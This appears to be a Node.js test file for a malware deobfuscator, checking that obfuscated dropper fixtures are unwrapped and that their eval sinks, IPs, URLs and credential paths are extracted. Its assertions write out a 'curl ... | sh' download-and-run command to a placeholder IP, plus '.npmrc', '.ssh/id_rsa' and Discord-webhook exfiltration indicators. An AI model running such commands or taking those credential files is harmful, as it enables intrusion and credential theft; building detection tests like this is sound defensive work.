'use strict';
const test = require('node:test');
const assert = require('node:assert');
const fs = require('fs');
const path = require('path');
const { deobfuscate } = require('../src/deob');

const fx = (n) => fs.readFileSync(path.join(__dirname, 'fixtures', n), 'utf8'); // read as text only

test('base64 eval dropper is unwrapped', () => {
  const r = deobfuscate(fx('dropper-b64.js'));
  assert.ok(r.output.includes('curl -s http://203.0.113.21/p.sh | sh'));
  assert.ok(r.sinks.includes('eval'));
  assert.deepStrictEqual(r.iocs.ipv4, ['203.0.113.21']);
});

test('fromCharCode and hex escapes', () => {
  const r = deobfuscate(fx('charcode.js'));
  assert.ok(r.output.includes('"child_process"'));
  assert.ok(r.iocs.url.includes('https://cdn.example.com/x'));
  assert.ok(r.output.includes('"/.npmrc"'));
  assert.ok(r.sinks.includes('Function-constructor'));
});

test('concat exfil reveals credential path and webhook', () => {
  const r = deobfuscate(fx('concat-exfil.js'));
  assert.ok(r.iocs.credPath.includes('.ssh/id_rsa'));
  assert.ok(r.iocs.url.some((u) => u.startsWith('https://discord.com/api/webhooks/')));
});
